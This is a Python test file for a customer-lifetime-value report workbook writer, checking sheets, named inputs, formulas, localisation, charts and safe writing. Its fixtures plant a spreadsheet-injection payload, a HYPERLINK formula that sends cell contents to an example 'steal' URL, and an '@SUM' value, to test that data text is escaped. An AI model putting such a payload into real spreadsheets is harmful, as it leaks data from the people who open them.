"""The report workbook (issue 4, point 4): sheets, named assumption cells, live formulas,
escaped text, per-language labels and formats, charts, atomic and safe writing.

The formulas' values are checked in a real spreadsheet engine in test_report_libreoffice.py.
"""

from __future__ import annotations

import dataclasses
import os

import numpy as np
import openpyxl
import pandas as pd
import pytest
from openpyxl.chart import BarChart, LineChart

from clvdesk.core.datasets import load_cdnow
from clvdesk.core.errors import InputError
from clvdesk.core.io.report import write_report
from clvdesk.core.io.report_labels import labels_for, money_format, number_formats
from clvdesk.core.pipeline import Assumptions, run_analysis
from clvdesk.core.scenarios import DEMO_SCENARIOS, Scenario
from clvdesk.core.segments import segment_clv

HOSTILE_ID = '=HYPERLINK("http://example.com/steal?"&A1,"click")'
HOSTILE_SEGMENT = "@SUM(A1)"

EN_SHEETS = ["Assumptions", "Customers", "Segments", "Cohorts", "Scenarios", "Model fit",
             "Data quality", "Actions", "Functions"]
NL_SHEETS = ["Aannames", "Klanten", "Segmenten", "Cohorten", "Scenario's", "Modelfit",
             "Datakwaliteit", "Acties", "Functies"]


def hostile_orders() -> pd.DataFrame:
    """CDNOW sample with a formula-like customer id and segment, and two segments."""
    orders = load_cdnow()
    orders["segment"] = np.where(orders["quantity"] > 2, HOSTILE_SEGMENT, "small baskets")
    orders.loc[orders["customer_id"] == "1", "customer_id"] = HOSTILE_ID
    return orders


@pytest.fixture(scope="module")
def result():
    assumptions = dataclasses.replace(
        Assumptions.demo(), segment_col="segment", cac_by_segment={"small baskets": 5.0},
        n_draws=40)
    return run_analysis(hostile_orders(), assumptions)


@pytest.fixture(scope="module")
def books(result, tmp_path_factory):
    folder = tmp_path_factory.mktemp("report")
    scenarios = [*DEMO_SCENARIOS, Scenario("Growing", aov=50, frequency=3, lifespan=4.5, cac=30,
                                           margin=0.35, referral_value=5, growth_rate=0.05,
                                           discount_rate=0.08)]
    paths = {lang: write_report(folder / f"report_{lang}.xlsx", result, language=lang,
                                scenarios=scenarios)
             for lang in ("en", "nl")}
    return {lang: openpyxl.load_workbook(path) for lang, path in paths.items()}


def name_cell(book, name):
    sheet, coord = next(iter(book.defined_names[name].destinations))
    return book[sheet][coord.replace("$", "")]


def find_row(ws, text, column=1):
    for row in ws.iter_rows(min_col=column, max_col=column):
        if row[0].value == text:
            return row[0].row
    raise AssertionError(f"{text!r} not found in {ws.title}")


def test_sheets_in_order_per_language(books):
    assert books["en"].sheetnames == EN_SHEETS
    assert books["nl"].sheetnames == NL_SHEETS


def test_functions_sheet_defines_the_lambda_functions(books):
    """The report carries the named LAMBDA functions (issue 12) and tries each on its sheet;
    their values are checked in IronCalc in test_excel_lambdas.py."""
    from clvdesk.core.io.excel_lambdas import FUNCTIONS
    from clvdesk.core.io.report_functions import description

    for key, book in books.items():
        for function in FUNCTIONS:
            name = book.defined_names[function.name]
            assert name.attr_text == function.stored
            assert name.comment == description(function, key)
        ws = book[EN_SHEETS[-1] if key == "en" else NL_SHEETS[-1]]
        formulas = {c.value for row in ws.iter_rows() for c in row
                    if isinstance(c.value, str) and c.data_type == "f"}
        for function in FUNCTIONS:
            assert any(f.startswith(f"={function.name}(") for f in formulas), function.name
    assert books["nl"]["Functies"]["A1"].value.startswith("CLV-functies")


def test_assumption_cells_are_named_inputs(books, result):
    book = books["en"]
    total = segment_clv(result.orders, "segment", end=result.assumptions.end,
                        margin=0.3, cac=10.0).iloc[-1]
    expected = {"Margin": 0.3, "DiscountRate": 0.10, "Horizon": 12, "AcquisitionCost": 10.0,
                "AvgOrderValue": total["aov"], "PurchasesPerYear": total["frequency_per_year"],
                "LifespanYears": total["lifespan_years"]}
    for name, value in expected.items():
        cell = name_cell(book, name)
        assert cell.value == pytest.approx(value, rel=1e-12), name
        assert cell.parent.title == "Assumptions"
    # CDNOW sample to 1997-09-30: 4,960 orders worth $173,115.55 by 2,357 customers
    assert name_cell(book, "AvgOrderValue").value == pytest.approx(173115.55 / 4960, rel=1e-9)


def test_inputs_refuse_impossible_values(books):
    book = books["nl"]
    rules = {str(cell_range): rule for rule in book["Aannames"].data_validations.dataValidation
             for cell_range in rule.sqref.ranges}
    margin = name_cell(book, "Margin").coordinate
    cac = name_cell(book, "AcquisitionCost").coordinate
    assert (rules[margin].operator, rules[margin].formula1, rules[margin].formula2) == (
        "between", "0.0", "1.0")
    assert rules[margin].error.startswith("Vul een percentage")
    assert (rules[cac].operator, rules[cac].formula1) == ("greaterThanOrEqual", "0.0")
    scenario_rules = [str(r.sqref) for r in book["Scenario's"].data_validations.dataValidation]
    assert "F6:F8" in scenario_rules  # margins of the three user scenarios


def test_closed_forms_are_formulas_of_the_names(books):
    book = books["en"]
    clv = name_cell(book, "ClosedFormCLV").value
    assert clv == "=Margin*AvgOrderValue*PurchasesPerYear*LifespanYears-AcquisitionCost"
    assert "DiscountRate" in name_cell(book, "DiscountedCLV").value
    scenarios = book["Scenarios"]
    base = find_row(scenarios, "Base (assumptions sheet)")
    assert [scenarios.cell(base, c).value for c in range(2, 7)] == [
        "=AvgOrderValue", "=PurchasesPerYear", "=LifespanYears", "=AcquisitionCost", "=Margin"]
    assert scenarios.cell(base + 1, 11).value.startswith("=")  # user scenario CLV: a formula
    segments = book["Segments"]
    assert segments["H5"].value == "=Margin"
    assert segments["K5"].value == "=J5-I5"


def test_customers_sheet_holds_the_predictions(books, result):
    ws = books["en"]["Customers"]
    headers = [c.value for c in ws[4]]
    predictions = result.predictions
    first = predictions.iloc[0]
    for key, header in (("p_alive", "P(alive)"), ("expected_purchases", "Expected purchases"),
                        ("expected_spend", "Expected spend per order")):
        assert ws.cell(5, headers.index(header) + 1).value == pytest.approx(first[key])
    history = result.summary.loc[predictions.index[0]]
    assert ws.cell(5, headers.index("Orders to date") + 1).value == history["n_orders"]
    assert ws.cell(5, headers.index("Spend to date") + 1).value == pytest.approx(
        history["total_spend"])
    assert ws.cell(5, headers.index("First order") + 1).value == history["first_purchase"]
    assert ws.cell(5, headers.index("First order") + 1).number_format == "yyyy-mm-dd"
    revenue_col = headers.index("Discounted revenue") + 1
    clv_col = headers.index("CLV") + 1
    letter = openpyxl.utils.get_column_letter(revenue_col)
    assert ws.cell(5, clv_col).value == f'=IF(ISNUMBER({letter}5),{letter}5*Margin,"")'
    # the revenue written is CLV / margin, so revenue x margin gives the core's CLV back
    revenue = [ws.cell(r, revenue_col).value for r in range(5, 5 + len(predictions))]
    np.testing.assert_allclose(np.array(revenue) * 0.3, predictions["clv"], rtol=1e-12)
    assert ws.max_row >= 4 + len(predictions)


def test_text_from_the_data_is_never_a_formula(books):
    for lang, book in books.items():
        customers = book[labels_for(lang).sheet("customers")]
        cell = customers["A5"]
        assert cell.value == HOSTILE_ID  # shown exactly as in the data
        assert cell.data_type == "s" and cell.quotePrefix
        segment_cells = [c for c in customers["B"][4:] if c.value == HOSTILE_SEGMENT]
        assert segment_cells and all(c.data_type == "s" and c.quotePrefix for c in segment_cells)
        for ws in book:
            for row in ws.iter_rows():
                for c in row:
                    if c.data_type == "f":
                        assert "HYPERLINK" not in c.value and "@SUM" not in c.value


def test_labels_and_number_formats_follow_the_language(books):
    en, nl = books["en"], books["nl"]
    assert en["Customers"]["A4"].value == "Customer"
    assert nl["Klanten"]["A4"].value == "Klant"
    assert nl["Aannames"]["A5"].value == "Brutomarge"
    # money: symbol glued in English (€1,234.56), symbol space number in Dutch (€ 1.234,56);
    # the separators themselves are the reader's locale, the code is always #,##0.00
    assert name_cell(en, "ClosedFormCLV").number_format == '"€"#,##0.00;-"€"#,##0.00'
    assert name_cell(nl, "ClosedFormCLV").number_format == '"€" #,##0.00;"€" -#,##0.00'
    assert name_cell(en, "Margin").number_format == "0.0%"
    end_en = en["Assumptions"].cell(find_row(en["Assumptions"], "End of calibration"), 2)
    end_nl = nl["Aannames"].cell(find_row(nl["Aannames"], "Einde kalibratie"), 2)
    assert end_en.number_format == "yyyy-mm-dd" and end_nl.number_format == "dd-mm-yyyy"
    assert end_en.value == end_nl.value == pd.Timestamp("1997-09-30").to_pydatetime()


def test_currency_symbol_is_a_choice():
    assert money_format("$", "en") == '"$"#,##0.00;-"$"#,##0.00'
    assert number_formats("nl", "EUR").money == '"EUR" #,##0.00;"EUR" -#,##0.00'
    with pytest.raises(InputError, match="language"):
        number_formats("de")


def test_native_charts_on_the_sheets(books):
    book = books["en"]
    kinds = {ws.title: [type(chart) for chart in ws._charts] for ws in book}
    assert BarChart in kinds["Customers"]  # CLV distribution
    assert kinds["Segments"].count(BarChart) == 2  # closed-form and predictive CLV by segment
    assert LineChart in kinds["Cohorts"]  # cohort curves
    assert kinds["Scenarios"].count(BarChart) == 2  # scenarios and tornado
    assert BarChart in kinds["Model fit"] and LineChart in kinds["Model fit"]  # holdout, tracking
    cohort_chart = book["Cohorts"]._charts[0]
    assert len(cohort_chart.series) == 3  # CDNOW: cohorts 1997-01, -02, -03


def test_model_fit_and_quality_sheets(books, result):
    fit = books["en"]["Model fit"]
    top = find_row(fit, "Transaction model: BG/NBD")
    params = {}
    for r in range(top + 2, fit.max_row + 1):
        if fit.cell(r, 1).value is None:
            break
        params[fit.cell(r, 1).value] = fit.cell(r, 2).value
    assert params["Customers"] == 2357
    # BG/NBD on the CDNOW sample, Fader, Hardie & Lee (2005a), section 5: r = 0.243,
    # alpha = 4.414, a = 0.793, b = 2.426, LL = -9582.4
    assert [params[k] for k in ("r", "alpha", "a", "b")] == pytest.approx(
        [0.243, 4.414, 0.793, 2.426], abs=1e-3)
    assert params["Log-likelihood"] == pytest.approx(-9582.4, abs=0.05)
    for name, value in result.model.params.items():
        assert params[name] == pytest.approx(value)
    assert params["Log-likelihood"] == pytest.approx(result.model.log_likelihood)
    comparison_row = find_row(fit, "Model comparison")
    assert fit.cell(comparison_row + 2, 1).value in {"BG/NBD", "MBG/NBD", "Pareto/NBD"}
    quality = books["en"]["Data quality"]
    assert quality.cell(find_row(quality, "Rows"), 2).value == result.quality["rows"] == 6919
    assert quality.cell(find_row(quality, "First date"), 2).value == pd.Timestamp("1997-01-01")
    kinds = [c.value for c in quality["A"]]
    assert "One-time buyers" in kinds  # CDNOW: most customers bought on one day only
    dutch = books["nl"]["Datakwaliteit"]
    assert "Eenmalige kopers" in [c.value for c in dutch["A"]]


def test_write_is_atomic_and_replaces(tmp_path, result):
    target = tmp_path / "report.xlsx"
    target.write_bytes(b"old")
    write_report(target, result, language="nl")
    assert openpyxl.load_workbook(target).sheetnames == NL_SHEETS
    assert sorted(os.listdir(tmp_path)) == ["report.xlsx"]  # no temporary files left behind


@pytest.mark.parametrize("name, message", [
    ("report.csv", "must be an .xlsx"),
    ("missing/report.xlsx", "folder does not exist"),
])
def test_bad_paths_are_input_errors(tmp_path, result, name, message):
    with pytest.raises(InputError, match=message):
        write_report(tmp_path / name, result)


def test_functions_sheet_speaks_the_reports_language_without_python_names(books):
    from clvdesk.core.io.excel_lambdas import FUNCTIONS
    from clvdesk.core.io.report_functions_nl import ARGUMENTS, DESCRIPTIONS

    assert set(DESCRIPTIONS) == set(ARGUMENTS) == {f.name for f in FUNCTIONS}
    for function in FUNCTIONS:
        assert set(ARGUMENTS[function.name]) == {p.name for p in function.params}
    for key, book in books.items():
        ws = book[EN_SHEETS[-1] if key == "en" else NL_SHEETS[-1]]
        texts = [c.value for row in ws.iter_rows() for c in row
                 if isinstance(c.value, str) and c.data_type != "f"]
        assert not [t for t in texts if "clvdesk." in t or "(Python)" in t]
        simple = DESCRIPTIONS["CLV.SIMPLE"] if key == "nl" else FUNCTIONS[0].description
        assert simple in texts
    dutch = {c.value for row in books["nl"][NL_SHEETS[-1]].iter_rows() for c in row}
    assert "aov: gemiddelde orderwaarde (valuta)" in next(
        t for t in dutch if isinstance(t, str) and t.startswith("aov: "))
    assert "Waarde van CLV Desk" in dutch


def test_bad_options_are_input_errors(tmp_path, result):
    with pytest.raises(InputError, match="language"):
        write_report(tmp_path / "r.xlsx", result, language="fr")
    # a caller's bug, not the user's input: a TypeError (no dialog wording of its own)
    with pytest.raises(TypeError, match="needs the result of run_analysis"):
        write_report(tmp_path / "r.xlsx", result.predictions)
    with pytest.raises(TypeError, match="scenarios"):
        write_report(tmp_path / "r.xlsx", result, scenarios=[{"name": "x"}])
    assert not (tmp_path / "r.xlsx").exists()


def test_demo_command_writes_the_report(tmp_path, capsys):
    from clvdesk.cli import main

    target = tmp_path / "rapport.xlsx"
    assert main(["demo", "-o", str(target), "--language", "nl", "--json"]) == 0
    assert f'"report": "{target}"' in capsys.readouterr().out
    book = openpyxl.load_workbook(target)
    assert book.sheetnames == NL_SHEETS
    assert name_cell(book, "ClosedFormCLV").number_format.startswith('"$" ')  # CDNOW: dollars
    scenarios = book["Scenario's"]
    assert [scenarios.cell(r, 1).value for r in (6, 7)] == [s.name for s in DEMO_SCENARIOS]
    # the demo's segments (CDs in the first basket), the big baskets with their own CAC
    segments = book["Segmenten"]
    assert [segments.cell(r, 1).value for r in range(5, 9)] == ["4+ CDs", "2-3 CDs", "1 CD",
                                                                "Alle klanten"]
    assert [segments.cell(r, 9).value for r in (5, 6)] == [15, "=AcquisitionCost"]


def test_demo_command_report_needs_the_predictions(tmp_path, capsys):
    from clvdesk.cli import main

    assert main(["demo", "--no-predict", "-o", str(tmp_path / "r.xlsx")]) == 2
    assert capsys.readouterr().err.strip() == (
        "error: the report workbook needs the predictions: leave out --no-predict")
    assert not (tmp_path / "r.xlsx").exists()


def test_acquisition_costs_from_the_data(tmp_path):
    """No CAC given: the customers' own costs; segments keep theirs, the base takes the mean."""
    orders = hostile_orders()
    ids = pd.to_numeric(orders["customer_id"], errors="coerce").fillna(1)
    orders["acquisition_cost"] = np.where(ids % 2 == 0, 4.0, 16.0)
    assumptions = dataclasses.replace(Assumptions.demo(), cac=None, segment_col="segment",
                                      cac_by_segment={}, n_draws=0, compare_models=("bgnbd",))
    result = run_analysis(orders, assumptions)
    book = openpyxl.load_workbook(write_report(tmp_path / "r.xlsx", result))
    table = result.segments_closed_form
    cac = name_cell(book, "AcquisitionCost")
    assert cac.value == pytest.approx(table["cac"].iloc[-1])
    assert 4.0 < cac.value < 16.0
    note = book["Assumptions"].cell(cac.row, 4).value
    assert note.startswith("Mean acquisition cost of the customers")
    segments = book["Segments"]
    assert [segments.cell(5 + i, 9).value for i in range(len(table) - 1)] == pytest.approx(
        list(table["cac"].iloc[:-1]))  # each segment's own mean, an input cell
    assert segments.cell(4 + len(table), 9).value.startswith("=SUMPRODUCT(B5:B")


@pytest.mark.parametrize("language", ["en", "nl"])
def test_no_internal_name_reaches_a_cell_a_reader_reads(books, language):
    """Headers and labels are words (no ``monetary_value``, no ``bgnbd``); the Functions sheet
    documents the Excel functions' own argument names and is left out."""
    import re

    book = books[language]
    internal = re.compile(r"^[a-z]+(_[a-z0-9]+)+$|^(bgnbd|mbgnbd|pareto-nbd|gamma-gamma)$")
    functions = {"Functions", "Functies"}
    found = {(ws.title, cell.value) for ws in book.worksheets if ws.title not in functions
             for row in ws.iter_rows() for cell in row
             if isinstance(cell.value, str) and internal.match(cell.value)}
    assert not found
